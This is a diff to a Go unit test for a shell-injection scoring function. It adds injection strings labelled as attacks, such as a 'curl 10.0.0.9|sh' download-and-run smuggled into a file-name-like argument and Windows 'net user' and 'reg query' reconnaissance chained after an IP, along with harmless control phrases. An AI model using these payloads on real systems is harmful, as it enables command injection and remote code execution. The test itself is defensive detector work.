@@ -114,6 +114,12 @@ func TestShellScore(t *testing.T) {
 		{"/usr/bin/id", scoreAttack},
 		{"echo x$((50+41))", scoreAttack},
 		{"1 || whoami || ", scoreAttack},
+		{"-TvTT=curl 10.0.0.9|sh # a.zip", scoreAttack},
+		{"127.0.0.1 & net user", scoreAttack},
+		{"127.0.0.1 && net localgroup administrators", scoreAttack},
+		{"1 | reg query HKLM\\Software", scoreAttack},
+		{"Tom & net profits", scoreWeak},
+		{"Issue #12 | see the board", scoreNone},
 		// Words, paths and telemetry that start no command.
 		{"zsh is the best!", scoreWeak},
 		{"//*[@id=app]/div[2]/ul[1]/li[8]", scoreNone},
